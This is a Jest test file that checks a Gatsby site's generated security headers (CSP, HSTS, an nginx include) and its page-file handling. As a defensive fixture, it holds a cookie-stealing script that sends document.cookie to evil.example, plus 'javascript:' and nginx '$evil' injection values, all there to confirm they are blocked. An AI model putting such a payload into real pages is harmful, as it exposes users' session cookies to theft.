/**
 * @jest-environment node
 *
 * What the build publishes: page files, public/_headers and the nginx include, written from a small
 * built site in a temporary folder.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { cspHash } from "../../plugins/post-build/inline-scripts";
import { toNginxInclude } from "../../plugins/post-build/nginx-headers";
import { formOrigin, siteHeaders } from "../../plugins/post-build/security-headers";
import { flattenPages, removeBuildArtefacts, restorePages } from "../../plugins/post-build/site-files";
import { writeSecurityHeaders } from "../../plugins/post-build/write-security-headers";

const loader = "(function(c){/* the bundle loader */})(document.currentScript)";
const compilationHash = 'window.___webpackCompilationHash="abc";';
const editorScript = "new Image().src='https://evil.example/?'+document.cookie";
const termsMarkdown = `<p>These terms apply.</p>\n<script>${editorScript}</script>`;
const adminPolicy = "default-src 'self'; script-src 'self' 'unsafe-eval'";

/** A page after the page-script rewrite: `body` where the page renders its Markdown. */
const html = (pagePath: string, body = "") =>
  `<!DOCTYPE html><html><head><script type="application/ld+json">{}</script></head><body>` +
  `<div id="___gatsby"><div class="prose">${body}</div></div><script>${compilationHash}</script>` +
  `<script id="bundle-loader" data-page="${pagePath}" data-bundles='["/app.js"]'>${loader}</script></body></html>`;

function writeSite(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "published-site-"));
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, "public", file)), { recursive: true });
    fs.writeFileSync(path.join(dir, "public", file), text);
  }
  return dir;
}

/** The rules of a _headers file, in order: path and header lines. */
function rules(text: string): [string, string[]][] {
  return text
    .split(/\n\n+/)
    .filter((block) => block.startsWith("/"))
    .map((block) => {
      const [rule, ...lines] = block.split("\n");
      return [rule!, lines.map((l) => l.trim()).filter(Boolean)];
    });
}

describe("writeSecurityHeaders", () => {
  let siteDir: string;
  let warn: jest.Mock;
  const write = (pageFiles: string[]) => {
    writeSecurityHeaders({
      siteDir,
      pageFiles,
      formEndpoint: "https://formspree.io/f/abcdwxyz",
      markdown: [
        { fileAbsolutePath: path.join(siteDir, "content/pages/terms.md"), html: termsMarkdown },
        { fileAbsolutePath: path.join(siteDir, "content/pages/about.md"), html: "<p>About</p>" },
      ],
      ownPolicy: [{ path: "/admin", file: "admin.html", headers: { "Content-Security-Policy": adminPolicy } }],
      warn,
    });
    return {
      headersFile: fs.readFileSync(path.join(siteDir, "public/_headers"), "utf8"),
      nginxFile: fs.readFileSync(path.join(siteDir, "nginx/headers.conf"), "utf8"),
    };
  };

  beforeEach(() => {
    siteDir = writeSite({
      "index.html": html("/"),
      "about.html": html("/about"),
      "terms.html": html("/terms", termsMarkdown),
      "404.html": html("/404.html"),
    });
    warn = jest.fn();
  });
  afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));

  it("puts one policy on every address, hashing the pages' scripts but never an editor's", () => {
    const { headersFile, nginxFile } = write(["404.html", "about.html", "index.html", "terms.html"]);
    const [first, ...others] = rules(headersFile);
    expect(first![0]).toBe("/*");
    const policy = first![1].find((line) => line.startsWith("Content-Security-Policy: "))!;
    expect(policy).toBe(
      `Content-Security-Policy: default-src 'self'; script-src 'self' ${[cspHash(loader), cspHash(compilationHash)].sort().join(" ")}; ` +
        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self' https://formspree.io; " +
        "form-action 'self' https://formspree.io; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
    );
    expect(others.filter(([, lines]) => lines.some((l) => l.startsWith("Content-Security-Policy:")))).toEqual([
      ["/admin", ["! Content-Security-Policy", `Content-Security-Policy: ${adminPolicy}`]],
    ]);
    expect(headersFile + nginxFile).not.toContain(cspHash(editorScript));
    expect(warn).toHaveBeenCalledTimes(1);
    expect(warn.mock.calls[0]![0]).toMatch(/^content\/pages\/terms\.md contains a <script> in its Markdown/);
  });

  it("writes the same rules however many pages and bundles there are", () => {
    const few = write(["about.html", "index.html"]);
    const many = write(["404.html", "about.html", "index.html", "terms.html"]);
    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(rules(few.headersFile).map(([rule]) => rule));
    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(["/*", "/*.js", "/*.css", "/static/*", "/admin"]);
    expect(many.nginxFile.split("\n").length).toBe(few.nginxFile.split("\n").length);
  });

  it("sets each header once per address: later rules add Cache-Control, or detach what they replace", () => {
    const all = rules(write(["index.html"]).headersFile);
    const common = all[0]![1].map((line) => line.split(":")[0]);
    for (const [rule, lines] of all.slice(1)) {
      const detached = lines.filter((l) => l.startsWith("! ")).map((l) => l.slice(2));
      const set = lines.filter((l) => !l.startsWith("! ")).map((l) => l.split(":")[0]!);
      expect({ rule, clash: set.filter((name) => common.includes(name) && !detached.includes(name)) }).toEqual({
        rule,
        clash: [],
      });
    }
    expect(all.slice(1, 4).map(([, lines]) => lines)).toEqual(
      Array(3).fill(["Cache-Control: public, max-age=31536000, immutable"]),
    );
  });

  it("warns when a page lacks inline scripts the others have, as the one policy is then wider than it", () => {
    fs.writeFileSync(path.join(siteDir, "public/about.html"), "<html><body>no scripts</body></html>");
    write(["about.html", "index.html"]);
    expect(warn.mock.calls.map((call) => call[0])).toContainEqual(expect.stringMatching(/^about\.html lack/));
  });

  it("gives nginx the same headers in every location, `always`, the addresses hosts have, and /admin its policy", () => {
    const { nginxFile } = write(["index.html"]);
    const blocks = nginxFile.split("\n\n").filter((b) => b.startsWith("location"));
    for (const block of blocks) {
      expect(block).toContain('add_header Strict-Transport-Security "max-age=31536000" always;');
      expect(block).toContain('add_header Cross-Origin-Resource-Policy "same-origin" always;');
      expect(block.match(/add_header Content-Security-Policy/g)).toHaveLength(1);
      expect(block.match(/add_header/g)!.length).toBe(block.match(/ always;/g)!.length);
    }
    expect(blocks.find((b) => b.startsWith("location / {"))).toContain("try_files $uri $uri.html =404;");
    expect(blocks.find((b) => b.startsWith('location = "/admin" {'))).toContain(
      `add_header Content-Security-Policy "${adminPolicy}" always;`,
    );
    expect(nginxFile).toContain("return 301 $page;");
  });
});

describe("flattenPages and restorePages", () => {
  const pagePaths = ["/", "/about", "/404/", "/404.html"];
  let siteDir: string;
  beforeEach(() => {
    siteDir = writeSite({
      "index.html": "home",
      "about/index.html": "about",
      "404/index.html": "404 again",
      "404.html": "404",
    });
  });
  afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));
  const listing = () => fs.readdirSync(path.join(siteDir, "public"), { recursive: true }).sort();

  it("publishes about/index.html as about.html, and Gatsby's second 404 page not at all", () => {
    expect(flattenPages(path.join(siteDir, "public"), pagePaths)).toEqual([
      { file: "404.html", pagePath: "/404.html" },
      { file: "about.html", pagePath: "/about" },
      { file: "index.html", pagePath: "/" },
    ]);
    expect(listing()).toEqual(["404.html", "about.html", "index.html"]);
  });

  it("puts the pages back where Gatsby wrote them, for a warm build", () => {
    flattenPages(path.join(siteDir, "public"), pagePaths);
    restorePages(path.join(siteDir, "public"), pagePaths);
    expect(listing()).toEqual(["404", "404.html", "404/index.html", "about", "about/index.html", "index.html"]);
    expect(fs.readFileSync(path.join(siteDir, "public/about/index.html"), "utf8")).toBe("about");
  });
});

describe("removeBuildArtefacts", () => {
  it("removes earlier builds' bundles before the build, and webpack's and Gatsby's build-only files", () => {
    const siteDir = writeSite({
      "app-707c4a314819745e08c7.js": "",
      "app-707c4a314819745e08c7.js.map": "",
      "framework-79115e5376afaa5decf7.js.LICENSE.txt": "",
      "styles.9bdfcd88dfaacee55209.css": "",
      "webpack.stats.json": "{}",
      "chunk-map.json": "{}",
      "_gatsby/slices/_gatsby-scripts-1.html": "",
      "~partytown/partytown.js": "",
      "index.html": "",
      "favicon.svg": "",
      "static/abc/photo.jpg": "",
    });
    const publicDir = path.join(siteDir, "public");
    expect(removeBuildArtefacts(publicDir, { bundles: false }).sort()).toEqual(
      ["_gatsby", "app-707c4a314819745e08c7.js.map", "chunk-map.json", "webpack.stats.json", "~partytown"].sort(),
    );
    removeBuildArtefacts(publicDir, { bundles: true });
    expect(fs.readdirSync(publicDir).sort()).toEqual(["favicon.svg", "index.html", "static"]);
    fs.rmSync(siteDir, { recursive: true, force: true });
  });
});

describe("formOrigin", () => {
  it("keeps scheme, host and port of the endpoint", () => {
    expect(formOrigin("https://formspree.io/f/abcd")).toBe("https://formspree.io");
    expect(formOrigin("http://127.0.0.1:9201/f/quote")).toBe("http://127.0.0.1:9201");
  });

  it("refuses an endpoint that is not a web address", () => {
    expect(() => formOrigin("javascript:alert(1)")).toThrow(/not http/);
    expect(() => formOrigin("formspree.io/f/abcd")).toThrow();
  });
});

describe("toNginxInclude", () => {
  it("refuses a value nginx would read as a variable", () => {
    const site = siteHeaders("script-src 'self' $evil");
    expect(() => toNginxInclude(site)).toThrow(/cannot write/);
  });
});
